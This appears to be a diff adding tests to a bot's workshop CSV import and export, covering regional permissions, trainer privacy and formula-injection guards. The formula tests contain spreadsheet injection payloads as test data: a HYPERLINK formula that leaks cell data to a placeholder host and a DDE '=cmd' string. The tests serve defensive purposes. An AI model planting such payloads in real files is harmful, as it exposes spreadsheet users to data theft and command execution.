@@ -12,15 +12,17 @@ from sqlalchemy import delete, func, select
 from sqlalchemy.ext.asyncio import AsyncSession
 
 from bot.i18n import create_i18n
-from bot.services import catalogue
+from bot.services import catalogue, checkin, roles, signups
 from bot.services.places import default_gazetteer
-from bot.services.roles import ALL_REGIONS, OPERATOR
+from bot.services.profile import Level
+from bot.services.roles import ALL_REGIONS, OPERATOR, Grant, RoleName
 from bot.services.workshop_csv import (
     COLUMNS,
     MAX_BYTES,
     MAX_ROWS,
     CellError,
     RowError,
+    count_rows,
     describe,
     export_csv,
     find_town,
@@ -28,6 +30,7 @@ from bot.services.workshop_csv import (
 )
 from storage.models import Workshop
 from storage.repositories import members as member_repo
+from tests import factories
 
 TZ = ZoneInfo("Europe/Amsterdam")
 TRAINER = 4242
@@ -317,3 +320,169 @@ async def test_excel_quirks_are_understood(session: AsyncSession) -> None:
 
     report = await import_csv(session, data.rsplit(b"Extra", 1)[0], TZ, OPERATOR)
     assert report.errors == [] and report.created == 1
+
+
+# --- who may import and export what ---------------------------------------------------------
+
+OOST_ORGANISER = frozenset({Grant(RoleName.ORGANISER, "oost")})
+TWO_REGIONS = frozenset({Grant(RoleName.ORGANISER, "oost"), Grant(RoleName.ORGANISER, "noord")})
+ZWOLLE = {
+    "title": "Campagne voeren",
+    "starts_at": "2027-04-10 10:00",
+    "ends_at": "2027-04-10 12:00",
+    "town": "Zwolle",
+    "capacity": "10",
+}
+ONLINE = {**GOOD_ROWS[1], "title": "Online debat"}
+
+
+async def test_a_regional_organiser_imports_only_their_own_region(session: AsyncSession) -> None:
+    elsewhere = [
+        ZWOLLE,  # line 2: oost, theirs
+        {**ZWOLLE, "town": "Utrecht"},  # line 3: west by its town
+        {**ZWOLLE, "region": "West"},  # line 4: west by name, though the town is in oost
+        {**ZWOLLE, "town": "Gent"},  # line 5: in no configured region
+    ]
+    report = await import_csv(session, csv_bytes(elsewhere), TZ, OOST_ORGANISER)
+    assert report.created == 0
+    assert report.errors == [
+        RowError(3, "town", "outside_region", "Utrecht"),
+        RowError(4, "region", "outside_region", "West"),
+        RowError(5, "town", "outside_region", "Gent"),
+    ]
+    assert await workshops(session) == []
+
+    report = await import_csv(session, csv_bytes([ZWOLLE, ONLINE]), TZ, OOST_ORGANISER)
+    assert report.errors == [] and report.created == 2
+    assert [w.region_code for w in await workshops(session)] == ["oost", "oost"]
+
+
+async def test_an_online_row_names_one_of_several_regions(session: AsyncSession) -> None:
+    report = await import_csv(session, csv_bytes([ONLINE]), TZ, TWO_REGIONS)
+    assert report.errors == [RowError(2, "region", "region_required", "")]
+
+    report = await import_csv(session, csv_bytes([{**ONLINE, "region": "noord"}]), TZ, TWO_REGIONS)
+    assert report.created == 1
+    assert [w.region_code for w in await workshops(session)] == ["noord"]
+
+
+async def test_admins_and_national_organisers_import_everywhere(session: AsyncSession) -> None:
+    rows = [ZWOLLE, {**ZWOLLE, "town": "Utrecht"}, {**ZWOLLE, "town": "Gent"}, ONLINE]
+    national = frozenset({Grant(RoleName.ORGANISER)})
+    report = await import_csv(session, csv_bytes(rows), TZ, national)
+    assert report.errors == [] and report.created == 4
+    codes = sorted(str(w.region_code) for w in await workshops(session))
+    assert codes == ["None", "None", "oost", "west"]
+
+
+async def test_only_organisers_import(session: AsyncSession) -> None:
+    with pytest.raises(roles.NotOrganiser):
+        await import_csv(session, csv_bytes([ZWOLLE]), TZ, frozenset({Grant(RoleName.TRAINER)}))
+    assert await workshops(session) == []
+
+
+async def test_a_regional_export_holds_only_that_region(session: AsyncSession) -> None:
+    rows = [ZWOLLE, {**ZWOLLE, "title": "In Utrecht", "town": "Utrecht", "trainer": str(TRAINER)}]
+    rows.append({**ONLINE, "title": "Landelijk online"})
+    assert (await import_csv(session, csv_bytes(rows), TZ, OPERATOR)).created == 3
+
+    regional = await export_csv(session, TZ, roles.Scope(frozenset({"oost"})))
+    everything = await export_csv(session, TZ, ALL_REGIONS)
+
+    assert count_rows(regional) == 1 and "Campagne voeren" in regional
+    assert "In Utrecht" not in regional and str(TRAINER) not in regional
+    assert "Landelijk online" not in regional  # national: not theirs to export
+    assert count_rows(everything) == 3 and str(TRAINER) in everything
+
+
+# --- trainers: only who agreed, and no hint of who is a member ------------------------------
+
+
+async def test_organisers_name_only_members_who_agreed_to_teach(
+    session: AsyncSession, trainer_id: int
+) -> None:
+    """TRAINER consented but never agreed to teach: to an organiser, their id reads exactly
+    like a stranger's. The trainer role or a "can teach" talent (findable) makes it work."""
+    stranger, shy = "999", str(TRAINER)
+    rows = [{**ZWOLLE, "trainer": stranger}, {**ZWOLLE, "trainer": shy}]
+    report = await import_csv(session, csv_bytes(rows), TZ, OOST_ORGANISER)
+    assert report.errors == [
+        RowError(2, "trainer", "unknown_trainer", stranger),
+        RowError(3, "trainer", "unknown_trainer", shy),
+    ]  # one code, so one sentence: whether an id is a member is not revealed
+
+    await factories.give_role(session, TRAINER, RoleName.TRAINER)
+    teacher = await factories.onboarded(
+        session, 4343, "Gert", "Zwolle", talents="debatteren", level=Level.TEACH, findable=True
+    )
+    teacher_id = teacher.id
+    rows = [{**ZWOLLE, "trainer": shy}, {**ZWOLLE, "trainer": "4343"}]
+    report = await import_csv(session, csv_bytes(rows), TZ, OOST_ORGANISER)
+    assert report.errors == [] and report.created == 2
+    assert {w.trainer_id for w in await workshops(session)} == {trainer_id, teacher_id}
+
+
+async def test_admins_name_any_member_but_not_strangers(
+    session: AsyncSession, trainer_id: int
+) -> None:
+    rows = [{**ZWOLLE, "trainer": str(TRAINER)}]
+    admin = frozenset({Grant(RoleName.ADMIN)})
+    report = await import_csv(session, csv_bytes(rows), TZ, admin)
+    assert report.created == 1
+    assert [w.trainer_id for w in await workshops(session)] == [trainer_id]
+    report = await import_csv(session, csv_bytes([{**ZWOLLE, "trainer": "999"}]), TZ, admin)
+    assert report.errors == [RowError(2, "trainer", "unknown_trainer", "999")]
+
+
+# --- formulas: no cell of any CSV the bot writes runs in a spreadsheet ----------------------
+
+
+async def test_formulas_in_titles_and_topics_are_guarded_and_read_back(
+    session: AsyncSession,
+) -> None:
+    """A skill named from members' words can start with "+": guarded like every text cell."""
+    await catalogue.add_skill(session, "+31 debat", "nl")
+    row = {
+        **ZWOLLE,
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+        "description": "@SUM(1+1)",
+        "venue": "\tzaal",
+        "address": "-2+3",
+        "topics": "+31 debat",
+    }
+    assert (await import_csv(session, csv_bytes([row]), TZ, OPERATOR)).created == 1
+    exported = await export_csv(session, TZ, ALL_REGIONS)
+
+    (cells,) = list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))[1:]
+    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert risky == []
+    assert cells[0].startswith("'=HYPERLINK") and cells[13] == "'+31 debat"
+
+    await session.execute(delete(Workshop))
+    await session.commit()
+    report = await import_csv(session, exported.encode("utf-8-sig"), TZ, OPERATOR)
+    assert report.errors == [] and report.created == 1
+    (again,) = await workshops(session)
+    assert (again.title, again.description, again.address) == (
+        row["title"], row["description"], row["address"],
+    )  # fmt: skip
+    assert [s.name_nl for s in again.topics] == ["+31 debat"]
+    assert await export_csv(session, TZ, ALL_REGIONS) == exported
+
+
+async def test_the_attendance_list_guards_members_names(session: AsyncSession) -> None:
+    """First names are what members typed into Telegram: "=cmd|..." must stay text."""
+    item = await factories.workshop(session, "Debattraining", capacity=1)
+    names = ["=cmd|' /C calc'!A0", "+Jan", "Ida"]
+    people = [
+        await factories.onboarded(session, 7000 + i, n, "Zwolle") for i, n in enumerate(names)
+    ]
+    for person in people:
+        await signups.sign_up(session, person, item)
+
+    data = await checkin.attendance_csv(session, item, TZ)
+
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[0] == ["name", "status", "waiting_position", "checked_in_at"]
+    assert [r[0] for r in rows[1:]] == ["'=cmd|' /C calc'!A0", "'+Jan", "Ida"]
+    assert [r[1:3] for r in rows[1:]] == [["confirmed", ""], ["waiting", "1"], ["waiting", "2"]]
